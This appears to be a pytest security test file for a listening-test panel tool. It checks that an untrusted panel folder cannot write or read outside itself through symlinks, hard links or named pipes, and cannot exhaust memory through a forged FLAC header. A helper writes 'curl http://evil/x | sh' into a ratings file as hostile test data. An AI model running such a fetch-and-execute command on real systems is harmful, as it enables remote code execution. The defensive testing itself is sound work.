"""A panel folder may come from anybody: nothing is written elsewhere, nothing is waited for."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from gaplisten.errors import GaplistenError
from gaplisten.panel.frozen import FrozenPanel, open_panel
from gaplisten.panel.journal import Journal, NotSaved
from gaplisten.panel.reading import JournalDamaged
from gaplisten.panel.results.votes import collect
from gaplisten.panel.safety import UntrustedPanel
from gaplisten.panel.session import Session
from gaplisten.panel.watch import panel_status
from kit.panels import make_panel, take

pytestmark = pytest.mark.skipif(os.name == "nt", reason="links and pipes take rights there")


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """A file of the listener's own, outside the panel."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_bytes(b"alias ll='ls -l'\n")
    return path


def csv_of(panel: FrozenPanel) -> Path:
    (path,) = panel.ratings.glob("*.csv")
    return path


def begun(tmp_path: Path) -> FrozenPanel:
    """A panel of a stranger's in which Ann has done one trial."""
    panel = make_panel(tmp_path, "acr")
    with Session.open(panel.folder, "Ann") as session:
        take(session, 1)
    return panel


def tear(panel: FrozenPanel) -> None:
    with csv_of(panel).open("ab") as file:
        file.write(b"curl http://evil/x | sh #")


def as_link(path: Path, mine: Path) -> None:
    path.symlink_to(mine)


def as_hard_link(path: Path, mine: Path) -> None:
    path.hardlink_to(mine)


@pytest.mark.parametrize("put", [as_link, as_hard_link])
@pytest.mark.parametrize("suffix", [".torn", ".lock"])
def test_a_panel_adds_nothing_to_a_file_of_the_listeners(
    tmp_path: Path, mine: Path, suffix: str, put: Callable[[Path, Path], None]
) -> None:
    panel = begun(tmp_path)
    tear(panel)
    put(csv_of(panel).with_suffix(suffix), mine)
    before = csv_of(panel).read_bytes()
    with pytest.raises(GaplistenError):
        Session.open(panel.folder, "Ann")
    assert mine.read_bytes() == b"alias ll='ls -l'\n"
    assert csv_of(panel).read_bytes() == before


@pytest.mark.parametrize("name", ["ratings", "ratings/answers"])
def test_a_folder_of_ratings_that_leads_elsewhere_is_refused_and_nothing_made_there(
    tmp_path: Path, name: str
) -> None:
    panel = make_panel(tmp_path, "acr")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (panel.folder / name).parent.mkdir(exist_ok=True)
    (panel.folder / name).symlink_to(elsewhere)
    with pytest.raises(NotSaved, match="it is a link"):
        Session.open(panel.folder, "Ann")
    assert list(elsewhere.iterdir()) == []


def test_ratings_elsewhere_are_not_read_through_a_link(tmp_path: Path) -> None:
    panel = begun(tmp_path)
    (panel.folder / "ratings").rename(tmp_path / "elsewhere")
    (panel.folder / "ratings").symlink_to(tmp_path / "elsewhere")
    found = collect(panel)
    assert found.votes == ()
    assert "link" in found.problems[0]
    assert "link" in panel_status(panel)[0].problem


def test_a_link_in_the_users_own_way_to_a_panel_is_followed(tmp_path: Path) -> None:
    panel = begun(tmp_path)
    (tmp_path / "shortcut").symlink_to(panel.folder)
    with Session.open(tmp_path / "shortcut", "Ann") as session:
        assert session.resumed
    (tmp_path / "shared").symlink_to(panel.folder / "ratings")
    with Session.open(panel.folder, "Ann", ratings=tmp_path / "shared") as session:
        assert session.resumed


@pytest.mark.parametrize("name", ["{name}.csv", "answers/{name}.csv", "{name}.torn", "{name}.lock"])
def test_a_pipe_in_the_place_of_a_file_of_a_session_is_refused_at_once(tmp_path: Path, name: str) -> None:
    panel = begun(tmp_path)
    tear(panel)
    path = csv_of(panel).parent / name.format(name=csv_of(panel).stem)
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    with pytest.raises(GaplistenError, match="no regular file"):
        Session.open(panel.folder, "Ann")


@pytest.mark.parametrize("name", ["panel.json", "key.bin", "stimuli"])
def test_a_pipe_in_the_place_of_a_part_of_a_panel_is_refused_at_once(tmp_path: Path, name: str) -> None:
    panel = make_panel(tmp_path, "acr")
    path = panel.folder / name
    if path.is_dir():
        path = next(path.iterdir())
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(UntrustedPanel, match="no regular file"):
        open_panel(panel.folder).verify()


def test_a_ratings_folder_exchanged_while_a_session_runs_gets_nothing(tmp_path: Path) -> None:
    panel = make_panel(tmp_path, "acr")
    elsewhere = tmp_path / "elsewhere"
    with Session.open(panel.folder, "Ann") as session:
        take(session, 1)
        shutil.copytree(panel.folder / "ratings", elsewhere)
        before = {path.name: path.read_bytes() for path in elsewhere.rglob("*") if path.is_file()}
        shutil.rmtree(panel.folder / "ratings")
        (panel.folder / "ratings").symlink_to(elsewhere)
        with pytest.raises(NotSaved, match="link"):
            take(session, 1)
        assert {path.name: path.read_bytes() for path in elsewhere.rglob("*") if path.is_file()} == before


def test_a_journal_written_anew_goes_where_it_was_read(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"a,b\n1,2\n")
    journal = Journal(path, ("a", "b"))
    (tmp_path / "real.csv").write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(tmp_path / "real.csv")
    with pytest.raises(NotSaved, match="another program changed"):
        journal.append([{"a": "3", "b": "4"}])
    assert (tmp_path / "real.csv").read_bytes() == b"a,b\n1,2\n"
    with pytest.raises(JournalDamaged, match="link"):
        Journal(path, ("a", "b"))


def test_a_stimulus_that_promises_more_than_fits_is_refused_before_memory_is_asked_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import soundfile

    panel = make_panel(tmp_path, "acr")
    code = panel.key.stimuli[0].code
    path = panel.folder / "stimuli" / f"{code}.wav"
    flac = tmp_path / "bomb.flac"
    soundfile.write(flac, [0.0] * 3200, 8000)
    data = bytearray(flac.read_bytes())
    data[21] = data[21] & 0xF0 | 0x0F  # the 36 bits of the number of samples in a FLAC's header
    data[22:26] = b"\xff\xff\xff\xff"
    path.write_bytes(data)
    monkeypatch.setattr(FrozenPanel, "stimulus_bytes", lambda _panel, _code: bytes(data))
    with pytest.raises(UntrustedPanel, match=r"length|promises|no sound"):
        panel.read(code)
